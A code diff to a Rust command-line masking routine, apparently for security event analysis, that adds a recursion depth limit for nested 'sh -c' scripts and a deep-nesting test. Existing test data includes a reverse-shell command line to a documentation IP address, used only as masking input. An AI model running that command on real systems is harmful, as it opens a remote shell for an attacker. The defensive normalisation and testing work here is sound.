@@ -198,6 +198,17 @@ pub fn user_class(ev: &FlatEvent) -> Option<String> {
 /// scheme, host and masked path; quoted strings `S`; other words (user, package, unit
 /// and group names, patterns) `W`. A shell's `-c` script is normalised command by command.
 pub fn mask_command(cmdline: &str) -> String {
+    mask_command_at(cmdline, 0)
+}
+
+/// How many `sh -c` scripts inside scripts are normalised; deeper ones are masked whole
+/// (a hostile command line must not exhaust the stack).
+const MAX_SCRIPT_DEPTH: usize = 8;
+
+fn mask_command_at(cmdline: &str, depth: usize) -> String {
+    if depth > MAX_SCRIPT_DEPTH {
+        return mask(cmdline);
+    }
     let toks = shell_tokens(cmdline);
     let mut out: Vec<String> = Vec::new();
     let mut pos = 0usize;
@@ -230,7 +241,7 @@ pub fn mask_command(cmdline: &str) -> String {
                 [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
                 _ => rest.join(" "),
             };
-            out.push(mask_command(&script));
+            out.push(mask_command_at(&script, depth + 1));
             break;
         }
         // An interpreter's script takes the first place: its subcommand comes after it
@@ -714,6 +725,9 @@ mod tests {
             m("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
             "bash -i >/dev/tcp/N.N.N.N/N N>&N"
         );
+        // Scripts within scripts, however deep: no stack exhaustion.
+        let deep = "sh -c ".repeat(200_000) + "id";
+        assert!(m(&deep).ends_with("-c sh -c sh -c id"));
         // Hostile input: no panic, control characters kept as data.
         for s in [
             "",
